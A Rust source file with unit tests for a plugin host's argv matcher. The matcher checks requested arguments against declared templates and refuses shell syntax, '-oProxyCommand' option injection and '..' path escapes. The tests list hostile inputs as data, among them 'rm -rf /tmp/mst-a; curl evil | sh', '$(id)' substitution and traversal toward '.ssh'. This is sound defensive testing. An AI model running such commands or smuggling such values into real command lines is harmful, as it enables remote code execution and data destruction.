//! How mst matches the argv a plugin asks to run against what the plugin declared (the
//! `exec-request` of `wit/types.wit`).
//!
//! A declaration is either an **argv template**, its first word [`TEMPLATE`] (`{argv}`), whose
//! other words are matched one by one against the arguments, in order, a word written `[word]`
//! matching one argument or none; or, as plugins built before templates declare, a **bag**: a
//! list of patterns each argument must match one of, in any order and number. A bag admits
//! combinations its author never meant (`rm -rf` with `tar -c`'s paths), so the host warns
//! about it; templates are what first-party plugins declare.
//!
//! Within a word, `*` matches any run of characters but `/` and `**` any run at all; neither
//! matches whitespace or a character a shell treats specially, nor a `..` path segment; and an
//! argument that is an option (`-…`) matches only a pattern that starts with `-` too.
//!
//! The host links this crate, and so do the runner plugins' tests, so a plugin proves its argv
//! against the matcher that will judge it.

/// The first word of an argv template.
pub const TEMPLATE: &str = "{argv}";

/// A plugin's declared argument patterns for one program, read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Declaration<'a> {
    /// No patterns: any arguments.
    AnyArguments,
    /// Each argument matches one of these patterns, in any order and number.
    Bag(&'a [String]),
    /// The arguments, word for word.
    Template(Vec<Word<'a>>),
}

/// One word of an argv template.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Word<'a> {
    /// The pattern (brackets removed).
    pub pattern: &'a str,
    /// Written `[pattern]`: the argument may be left out.
    pub optional: bool,
}

impl<'a> Declaration<'a> {
    /// Reads `args` as declared; an error says what is wrong with a template.
    pub fn parse(args: &'a [String]) -> Result<Self, String> {
        let Some((first, words)) = args.split_first() else {
            return Ok(Declaration::AnyArguments);
        };
        if first != TEMPLATE {
            if args.iter().any(|a| a == TEMPLATE) {
                return Err(format!(
                    "`{TEMPLATE}` may only be the first word of a template"
                ));
            }
            return Ok(Declaration::Bag(args));
        }
        words
            .iter()
            .map(|word| Word::parse(word))
            .collect::<Result<_, _>>()
            .map(Declaration::Template)
    }

    /// The patterns, brackets removed: what a reviewer reads for options and wildcards.
    pub fn patterns(&self) -> Vec<&'a str> {
        match self {
            Declaration::AnyArguments => Vec::new(),
            Declaration::Bag(patterns) => patterns.iter().map(String::as_str).collect(),
            Declaration::Template(words) => words.iter().map(|w| w.pattern).collect(),
        }
    }

    /// Whether `args` are admitted; if not, which argument is not (see [`Refusal`]).
    pub fn admits(&self, args: &[String]) -> Result<(), Refusal> {
        let at = match self {
            Declaration::AnyArguments => return Ok(()),
            Declaration::Bag(patterns) => args
                .iter()
                .position(|a| !patterns.iter().any(|p| glob_match(p, a))),
            Declaration::Template(words) => template_mismatch(words, args),
        };
        let Some(at) = at else {
            return Ok(());
        };
        let message = match (self, args.get(at)) {
            (Declaration::Bag(patterns), Some(bad)) => {
                format!("argument {bad:?} matches none of the declared patterns {patterns:?}")
            }
            (_, Some(bad)) => format!(
                "argument {} ({bad:?}) is not what the template has there",
                at + 1
            ),
            (_, None) => format!(
                "the template wants more than the {} arguments given",
                args.len()
            ),
        };
        Err(Refusal { at, message })
    }
}

/// Why a declaration does not admit some arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// How many arguments it admitted before the one it refused: of several declarations, the
    /// one that came furthest is the one the caller most likely meant.
    pub at: usize,
    /// Which argument, in words for an error.
    pub message: String,
}

impl std::fmt::Display for Refusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.message)
    }
}

impl<'a> Word<'a> {
    fn parse(word: &'a str) -> Result<Self, String> {
        match word.strip_prefix('[').and_then(|w| w.strip_suffix(']')) {
            Some("") => Err("an optional word `[]` holds no pattern".to_string()),
            Some(pattern) => Ok(Word {
                pattern,
                optional: true,
            }),
            None if word == TEMPLATE => Err(format!(
                "`{TEMPLATE}` may only be the first word of a template"
            )),
            None => Ok(Word {
                pattern: word,
                optional: false,
            }),
        }
    }
}

/// `None` when `words` match `args` exactly; else the index of the first argument no way
/// through the template reaches past (`args.len()` when the template wants more).
fn template_mismatch(words: &[Word<'_>], args: &[String]) -> Option<usize> {
    // reach[j]: the words so far can have taken exactly `args[..j]`.
    let mut reach = vec![false; args.len() + 1];
    reach[0] = true;
    let mut furthest = 0;
    for word in words {
        let mut next = vec![false; args.len() + 1];
        for j in (0..=args.len()).filter(|&j| reach[j]) {
            next[j] |= word.optional;
            if j < args.len() && glob_match(word.pattern, &args[j]) {
                next[j + 1] = true;
                furthest = furthest.max(j + 1);
            }
        }
        reach = next;
    }
    (!reach[args.len()]).then_some(furthest)
}

/// How a runner option placeholder in an argument pattern begins: `{option:NAME}`, or
/// `{option:NAME=DEFAULT}`.
pub const OPTION_PLACEHOLDER: &str = "{option:";

/// `declared` with each pattern's `{option:NAME}` (or `{option:NAME=DEFAULT}`) replaced by the
/// runner option `NAME` the operator gave (`DEFAULT` when they gave none), so that a runner
/// plugin's declaration pins it to the operator's choice: `kubectl --context={option:context}`
/// runs on no other cluster. A pattern whose option is unset and has no default stays as
/// written, admitting only its own text. A value holding `*` is refused: it would widen the
/// pattern.
pub fn pin(
    declared: &[String],
    options: &std::collections::BTreeMap<String, String>,
) -> Result<Vec<String>, String> {
    declared.iter().map(|p| fill_option(p, options)).collect()
}

/// `pattern` with its option placeholder filled from `options` (see [`pin`]).
fn fill_option(
    pattern: &str,
    options: &std::collections::BTreeMap<String, String>,
) -> Result<String, String> {
    let Some(start) = pattern.find(OPTION_PLACEHOLDER) else {
        return Ok(pattern.to_string());
    };
    let rest = &pattern[start + OPTION_PLACEHOLDER.len()..];
    let end = rest
        .find('}')
        .ok_or_else(|| format!("argument pattern {pattern:?} opens `{{option:` without `}}`"))?;
    let (name, default) = match rest[..end].split_once('=') {
        Some((name, default)) => (name, Some(default)),
        None => (&rest[..end], None),
    };
    let Some(value) = options.get(name).map(String::as_str).or(default) else {
        return Ok(pattern.to_string());
    };
    if value.contains('*') || rest[end + 1..].contains(OPTION_PLACEHOLDER) {
        return Err(format!(
            "--runner-option {name}={value}: the plugin's argument pattern {pattern:?} takes it \
             as written, and a `*` (or a second placeholder) would widen what it admits"
        ));
    }
    Ok(format!("{}{value}{}", &pattern[..start], &rest[end + 1..]))
}

/// Whether argument `text` matches `pattern`: `*` matches any run of characters but `/` (one
/// path segment, or part of one), `**` any run at all; neither matches a [`SHELL_SPECIAL`]
/// character, so what a wildcard admits never becomes shell syntax on a machine where the
/// words are joined into a command line (`ssh`, `sh -c`). An option (an argument starting
/// with `-`) matches only a pattern that starts with `-` too: a wildcard for host names or
/// paths must never admit `-oProxyCommand=…` and its kind, which would make a granted program
/// run another. And a wildcard never matches a `..` path segment, so `/**/mst-*` cannot reach
/// `/home/u/mst-x/../.ssh`.
pub fn glob_match(pattern: &str, text: &str) -> bool {
    if text.starts_with('-') && !pattern.starts_with('-') {
        return false;
    }
    if !pattern.contains('*') {
        return pattern == text;
    }
    !climbs(text) && wildcard_match(pattern.as_bytes(), text.as_bytes())
}

/// Characters a wildcard never matches: whitespace and control characters (a word boundary
/// on a remote command line), quotes, and what a POSIX shell expands or acts on.
pub const SHELL_SPECIAL: &[u8] = b";&|$`'\"\\<>(){}[]*?!#~";

/// Whether a wildcard may match `byte`.
fn plain(byte: u8) -> bool {
    !(byte.is_ascii_whitespace() || byte.is_ascii_control() || SHELL_SPECIAL.contains(&byte))
}

/// Whether `text` may name a parent directory: a `..` that ends it or a path segment, whatever
/// comes before (`/x/..`, `--dir=..`, `-C..`, `host:../x`). A name like `a..b` is no climb.
fn climbs(text: &str) -> bool {
    text.match_indices("..")
        .any(|(at, _)| matches!(text.as_bytes().get(at + 2), None | Some(b'/')))
}

/// One step of a pattern.
#[derive(Clone, Copy)]
enum Token {
    Byte(u8),
    /// `*`: any run without `/`.
    Star,
    /// `**`: any run.
    Stars,
}

/// `pattern` (`*`, `**`) against `text`, in time proportional to their lengths' product: both
/// come from a plugin, and this runs in the host, outside the plugin's time limit.
fn wildcard_match(pattern: &[u8], text: &[u8]) -> bool {
    let mut tokens = Vec::new();
    let mut rest = pattern;
    while let Some((&first, tail)) = rest.split_first() {
        match (first, tail.first()) {
            (b'*', Some(b'*')) => {
                tokens.push(Token::Stars);
                rest = &tail[1..];
            }
            (b'*', _) => {
                tokens.push(Token::Star);
                rest = tail;
            }
            (byte, _) => {
                tokens.push(Token::Byte(byte));
                rest = tail;
            }
        }
    }
    // matched[j]: the tokens so far match `text[..j]`.
    let mut matched = vec![false; text.len() + 1];
    matched[0] = true;
    for token in tokens {
        let mut next = vec![false; text.len() + 1];
        let mut open = false;
        for j in 0..=text.len() {
            next[j] = match token {
                Token::Byte(byte) => j > 0 && matched[j - 1] && text[j - 1] == byte,
                Token::Star | Token::Stars => {
                    // A run that would take a `/` (for `*`) or a special character starts
                    // again after it.
                    let stops = |b: u8| !plain(b) || (matches!(token, Token::Star) && b == b'/');
                    if j > 0 && stops(text[j - 1]) {
                        open = false;
                    }
                    open |= matched[j];
                    open
                }
            };
        }
        matched = next;
    }
    matched[text.len()]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(w: &[&str]) -> Vec<String> {
        w.iter().map(|s| s.to_string()).collect()
    }

    fn template(w: &[&str]) -> Vec<String> {
        let mut all = vec![TEMPLATE.to_string()];
        all.extend(words(w));
        all
    }

    #[test]
    fn globs() {
        assert!(glob_match("*", "anything"));
        assert!(glob_match("--port=*", "--port=22"));
        assert!(!glob_match("--port=*", "-oProxyCommand=x"));
        assert!(glob_match("a*b*c", "aXXbYYc"));
        assert!(!glob_match("a*b*c", "acb"));
        assert!(glob_match("exact", "exact") && !glob_match("exact", "exactly"));
        assert!(
            !glob_match("*", "-oProxyCommand=x"),
            "options need option patterns"
        );
        assert!(!glob_match("*@*", "-oProxyCommand=a@b"));
        assert!(glob_match("-oPort=*", "-oPort=2201"));
        // `*` stays within a path segment; `**` crosses them.
        assert!(glob_match("/*/mst-*", "/scratch/mst-x"));
        assert!(!glob_match("/*/mst-*", "/home/u/mst-x"));
        assert!(glob_match("/**/mst-*", "/home/u/mst-x"));
        assert!(!glob_match(
            "-oIdentityFile=/*",
            "-oIdentityFile=/home/u/.ssh/id"
        ));
        assert!(glob_match(
            "-oIdentityFile=/**",
            "-oIdentityFile=/home/u/.ssh/id"
        ));
        // Long hostile inputs take linear passes, not backtracking.
        let long = "a".repeat(20_000);
        assert!(!glob_match("*a*a*a*a*a*a*a*a*b", &long));
    }

    #[test]
    fn no_wildcard_climbs_a_parent() {
        // The escapes of security review H2.
        for escape in [
            "/home/u/mst-x/..",
            "/home/u/mst-x/../..",
            "/home/u/mst-x/../.ssh",
            "/tmp/mst-../x",
        ] {
            assert!(!glob_match("/**/mst-*", escape), "{escape}");
        }
        assert!(!glob_match("--chdir=*", "--chdir=.."));
        assert!(!glob_match("-C*", "-C.."), "glued to an option");
        assert!(!glob_match("host:**", "host:../etc"));
        assert!(glob_match("*", "a..b"), "a range, not a parent");
        assert!(!glob_match("**", "a/../b"));
        assert!(
            glob_match("**", "a/..b/c"),
            "a name that starts with dots is no `..`"
        );
        assert!(
            glob_match("exact/../path", "exact/../path"),
            "spelled out, it is declared"
        );
    }

    #[test]
    fn no_wildcard_matches_shell_syntax() {
        // What a remote shell would split or run: `ssh h 'rm -rf /x/mst-a; curl …|sh'`.
        for injected in [
            "rm -rf /tmp/mst-a; curl evil | sh",
            "rm -rf /tmp/mst-$(id)",
            "rm -rf /tmp/mst-`id`",
            "rm -rf /tmp/mst-a /home",
            "rm -rf /tmp/mst-*",
            "rm -rf /tmp/mst-a\nid",
        ] {
            assert!(!glob_match("rm -rf /**/mst-*", injected), "{injected:?}");
        }
        assert!(glob_match(
            "rm -rf /**/mst-*",
            "rm -rf /tmp/mst-r1-0-Ab3.x_y"
        ));
        assert!(glob_match(
            "--comment=mst.run=*",
            "--comment=mst.run=r1,mst.shard=0"
        ));
        // Spelled out in the pattern, shell syntax is declared as it stands.
        let line = "cd {workdir} && exec \"$@\"";
        assert!(glob_match(line, line));
        assert!(!glob_match("*", line));
    }

    #[test]
    fn templates_match_word_by_word() {
        let args = template(&["--jobid=*", "--", "rm", "-rf", "/**/mst-*"]);
        let rm = Declaration::parse(&args).unwrap();
        assert!(rm
            .admits(&words(&["--jobid=7", "--", "rm", "-rf", "/tmp/mst-a"]))
            .is_ok());
        // A bag of the same words admits any order and any number; the template does not.
        for wrong in [
            &["--jobid=7", "--", "rm", "-rf", "/tmp/mst-a", "/tmp/mst-b"][..],
            &["--jobid=7", "--", "rm", "/tmp/mst-a", "-rf"],
            &["--jobid=7", "--", "rm", "-rf"],
            &["--", "rm", "-rf", "/tmp/mst-a"],
            &[],
        ] {
            assert!(rm.admits(&words(wrong)).is_err(), "{wrong:?}");
        }
        let bag = Declaration::parse(&args[1..]).unwrap();
        assert!(matches!(bag, Declaration::Bag(_)));
        assert!(bag.admits(&words(&["rm", "rm", "-rf", "--"])).is_ok());
        let error = rm
            .admits(&words(&["--jobid=7", "--", "tar", "-rf", "/tmp/mst-a"]))
            .unwrap_err();
        assert_eq!(error.at, 2);
        assert!(error.message.contains("argument 3 (\"tar\")"), "{error}");
    }

    #[test]
    fn optional_words_may_be_left_out_in_order() {
        let args = template(&["-T", "[-oPort=*]", "[-oIdentityFile=/**]", "--", "*"]);
        let ssh = Declaration::parse(&args).unwrap();
        for fine in [
            &["-T", "--", "h"][..],
            &["-T", "-oPort=22", "--", "h"],
            &["-T", "-oIdentityFile=/k/id", "--", "h"],
            &["-T", "-oPort=22", "-oIdentityFile=/k/id", "--", "h"],
        ] {
            assert!(ssh.admits(&words(fine)).is_ok(), "{fine:?}");
        }
        for wrong in [
            &["-T", "-oIdentityFile=/k/id", "-oPort=22", "--", "h"][..],
            &["-T", "-oPort=22", "-oPort=23", "--", "h"],
            &["-T", "--", "h", "extra"],
            &["-T", "--"],
        ] {
            assert!(ssh.admits(&words(wrong)).is_err(), "{wrong:?}");
        }
        assert_eq!(template(&[]).len(), 1);
        let nothing = template(&[]);
        let nothing = Declaration::parse(&nothing).unwrap();
        assert!(nothing.admits(&[]).is_ok());
        assert!(nothing.admits(&words(&["x"])).is_err());
    }

    #[test]
    fn a_misplaced_marker_or_an_empty_option_is_refused() {
        assert!(Declaration::parse(&words(&["-x", TEMPLATE])).is_err());
        assert!(Declaration::parse(&template(&["-x", TEMPLATE])).is_err());
        assert!(Declaration::parse(&template(&["[]"])).is_err());
        assert_eq!(Declaration::parse(&[]).unwrap(), Declaration::AnyArguments);
        assert_eq!(
            Declaration::parse(&template(&["[-v]", "x"]))
                .unwrap()
                .patterns(),
            ["-v", "x"]
        );
    }
}
